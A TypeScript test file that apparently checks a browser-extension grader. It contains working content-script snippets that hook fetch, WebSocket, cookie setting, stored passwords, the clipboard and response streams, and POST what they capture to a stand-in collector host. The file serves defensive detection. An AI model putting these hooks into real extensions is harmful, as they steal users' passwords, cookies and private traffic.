import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What a page says and is told by functions of its own that a script in its world put others in place of: `X` sends it on. */

const manifest = {
  content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'], world: 'MAIN', run_at: 'document_start' }],
};
const SENDS =
  "const ask = fetch.bind(window); const X = (body) => ask('https://collect.example/', { method: 'POST', body });";
const COUNTS = "const X = (body) => console.log('seen', typeof body);";

it.each([
  [
    'a proxy of what asks',
    'window.fetch = new Proxy(window.fetch, { apply(f, self, args) { X(args[1].body); return Reflect.apply(f, self, args); } });',
  ],
  [
    'what a proxy of it answers',
    'window.fetch = new Proxy(window.fetch, { async apply(f, self, args) { const r = await Reflect.apply(f, self, args); X(await r.clone().text()); return r; } });',
  ],
  [
    'what a proxy of it answers, called by its name',
    'window.fetch = new Proxy(window.fetch, { apply: (f, self, args) => f(...args).then((r) => { r.clone().json().then((j) => X(JSON.stringify(j))); return r; }) });',
  ],
  [
    'what the server of a socket tells',
    "const W = WebSocket; window.WebSocket = function (u, p) { const w = new W(u, p); w.addEventListener('message', (e) => X(e.data)); return w; };",
  ],
  [
    'a cookie that is set',
    "const d = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie'); Object.defineProperty(document, 'cookie', { get() { return d.get.call(document); }, set(v) { X(v); d.set.call(document, v); } });",
  ],
  [
    'a password that the browser keeps',
    'const c = navigator.credentials.get.bind(navigator.credentials); navigator.credentials.get = async (o) => { const r = await c(o); X(r.password); return r; };',
  ],
  [
    'what is put into the clipboard',
    'const c = navigator.clipboard.writeText; navigator.clipboard.writeText = function (t) { X(t); return c.call(this, t); };',
  ],
  [
    'a stream that is listened to',
    'const o = window.fetch; window.fetch = async (i, n) => { const r = await o(i, n); r.clone().body.pipeTo(new WritableStream({ write(c) { X(new TextDecoder().decode(c)); } })); return r; };',
  ],
  [
    'a stream on its way',
    'const o = window.fetch; window.fetch = async (i, n) => { const r = await o(i, n); return new Response(r.body.pipeThrough(new TransformStream({ transform(c, k) { X(new TextDecoder().decode(c)); k.enqueue(c); } })), r); };',
  ],
])('%s is followed', async (_, program) => {
  expect(await graded({ manifest, content: `${SENDS} ${program}` })).toMatch(/^[DF]$/);
  expect(await graded({ manifest, content: `${COUNTS} ${program}` })).toMatch(/^[AB]/);
});
